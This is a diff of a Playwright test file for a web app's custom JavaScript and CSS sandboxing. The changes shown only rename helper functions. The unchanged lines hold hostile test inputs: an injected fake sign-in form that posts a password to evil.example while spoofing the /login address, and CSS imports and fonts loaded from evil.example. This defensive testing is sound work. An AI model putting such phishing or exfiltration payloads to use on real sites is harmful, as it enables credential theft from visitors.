@@ -1,7 +1,7 @@
 import { readFileSync } from "node:fs";
 import type { APIRequestContext, Page } from "@playwright/test";
 import { expect, test } from "./fixtures.ts";
-import { beSignedIn, giveAppearance, giveLinks, type Member, newMember } from "./member.ts";
+import { beSignedIn, setAppearance, createLinks, type Member, newMember } from "./member.ts";
 
 const hostileCode = readFileSync(new URL("hostile-code.js", import.meta.url), "utf8").replace(/^\s*\/\/.*$/gm, "");
 const LONG_MS = 150_000;
@@ -58,9 +58,9 @@ test("a page's custom JavaScript gets nothing from a signed-in visitor or from i
 }) => {
   test.setTimeout(LONG_MS * 2);
   const [owner, viewer] = [await newMember(request), await newMember(request)];
-  for (const member of [owner, viewer]) await giveLinks(request, member, ["Shop"]);
-  await giveAppearance(request, viewer, {});
-  await giveAppearance(request, owner, { custom_js: hostileCode });
+  for (const member of [owner, viewer]) await createLinks(request, member, ["Shop"]);
+  await setAppearance(request, viewer, {});
+  await setAppearance(request, owner, { custom_js: hostileCode });
 
   for (const victim of [viewer, owner]) {
     const context = await browser.newContext({ baseURL: baseURL! });
@@ -82,7 +82,7 @@ test("a page's custom JavaScript gets nothing from a signed-in visitor or from i
 test("a draft's custom JavaScript gets nothing from its editor", async ({ page, request }) => {
   test.setTimeout(LONG_MS * 2);
   const owner = await newMember(request);
-  await giveAppearance(request, owner, {});
+  await setAppearance(request, owner, {});
   await beSignedIn(page, owner);
   await openApp(page, owner);
   // React would restore its own document over what this test adds to it
@@ -127,7 +127,7 @@ test("custom JavaScript cannot show a path of the application in the address bar
     "document.body.innerHTML = '<h1>Sign in</h1><form method=post action=https://evil.example/take><input name=password value=secret><button>Sign in</button></form>';",
     `try { history.replaceState(null, '', '${baseURL}/login'); document.title = 'taken'; } catch {}`,
   ].join("\n");
-  await giveAppearance(request, owner, { custom_js: fake });
+  await setAppearance(request, owner, { custom_js: fake });
   const posted: string[] = [];
   page.on("request", (each) => each.method() === "POST" && posted.push(new URL(each.url()).pathname));
   await page.goto(`/${owner.username}`);
@@ -152,8 +152,8 @@ test("recognises owners on their page with custom JavaScript, and keeps the addr
   request,
 }) => {
   const owner = await newMember(request);
-  await giveAppearance(request, owner, { custom_js: "document.title = 'mine'" });
-  await giveLinks(request, owner, ["Shop"]);
+  await setAppearance(request, owner, { custom_js: "document.title = 'mine'" });
+  await createLinks(request, owner, ["Shop"]);
   const { cookies } = await request.storageState();
   await page.context().addCookies(cookies);
   const reports = () => page.waitForRequest((each) => each.method() === "POST" && each.url().includes("/v1/"));
@@ -170,7 +170,7 @@ test("custom CSS draws, but closes no element, runs no script and contacts no th
   request,
 }) => {
   const owner = await newMember(request);
-  await giveAppearance(request, owner, {
+  await setAppearance(request, owner, {
     custom_css: [
       "@import url(https://evil.example/a.css);",
       "@font-face{font-family:Evil;src:url(https://evil.example/f.woff2)}",
